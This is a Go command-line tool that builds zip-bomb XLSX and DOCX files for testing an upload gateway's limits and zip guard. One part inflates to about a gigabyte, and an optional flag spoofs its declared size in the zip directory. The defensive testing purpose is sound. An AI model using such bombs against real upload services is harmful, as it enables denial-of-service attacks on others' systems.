// Command hostilezip writes office files (XLSX, DOCX) whose one big part
// inflates to many times their size — what the upload limits and the zip
// guard (platform/tabular) must withstand. scripts/hostile-upload.sh sends
// them through the gateway and samples every process's memory.
//
//	hostilezip -kind xlsx -unpacked 1073741824 [-lie] > bomb.xlsx
//
// With -lie the part declares 1 MiB in the archive's directory while it
// inflates to -unpacked: the directory check passes and the reader must stop
// it while it unpacks.
package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"os"
)

func main() {
	if err := run(os.Stdout, os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "hostilezip:", err)
		os.Exit(1)
	}
}

func run(out io.Writer, args []string) error {
	fs := flag.NewFlagSet("hostilezip", flag.ContinueOnError)
	kind := fs.String("kind", "xlsx", "xlsx or docx")
	unpacked := fs.Int64("unpacked", 1<<30, "bytes the big part inflates to")
	lie := fs.Bool("lie", false, "declare 1 MiB for the big part in the directory")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var small map[string]string
	var big, head, unit, tail string
	switch *kind {
	case "xlsx":
		small = map[string]string{
			"[Content_Types].xml":        `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
			"_rels/.rels":                `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
			"xl/workbook.xml":            `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
			"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
		}
		big = "xl/worksheets/sheet1.xml"
		head = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ИНН</t></is></c></row>`
		unit = `<row><c t="inlineStr"><is><t>x</t></is></c></row>`
		tail = `</sheetData></worksheet>`
	case "docx":
		small = map[string]string{
			"[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
		}
		big = "word/document.xml"
		head = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:tbl>`
		unit = `<w:tr></w:tr>`
		tail = `</w:tbl></w:body></w:document>`
	default:
		return fmt.Errorf("-kind %q: want xlsx or docx", *kind)
	}

	// The big part, deflated in memory (it compresses about 1000:1).
	var packed bytes.Buffer
	fw, err := flate.NewWriter(&packed, flate.BestCompression)
	if err != nil {
		return err
	}
	crc := crc32.NewIEEE()
	w := io.MultiWriter(fw, crc)
	n, _ := io.WriteString(w, head)
	chunk := bytes.Repeat([]byte(unit), (64<<10)/len(unit))
	for total := int64(n); total < *unpacked-int64(len(tail)); total += int64(len(chunk)) {
		if _, err := w.Write(chunk); err != nil {
			return err
		}
		n += len(chunk)
	}
	m, _ := io.WriteString(w, tail)
	if err := fw.Close(); err != nil {
		return err
	}
	size := uint64(n + m)
	declared := size
	if *lie {
		declared = 1 << 20
	}

	zw := zip.NewWriter(out)
	for name, body := range small {
		pw, err := zw.Create(name)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(pw, body); err != nil {
			return err
		}
	}
	raw, err := zw.CreateRaw(&zip.FileHeader{Name: big, Method: zip.Deflate, CRC32: crc.Sum32(),
		CompressedSize64: uint64(packed.Len()), UncompressedSize64: declared})
	if err != nil {
		return err
	}
	if _, err := raw.Write(packed.Bytes()); err != nil {
		return err
	}
	if err := zw.Close(); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "hostilezip: %s part %s inflates to %d bytes (declared %d), %d bytes packed\n", *kind, big, size, declared, packed.Len())
	return nil
}
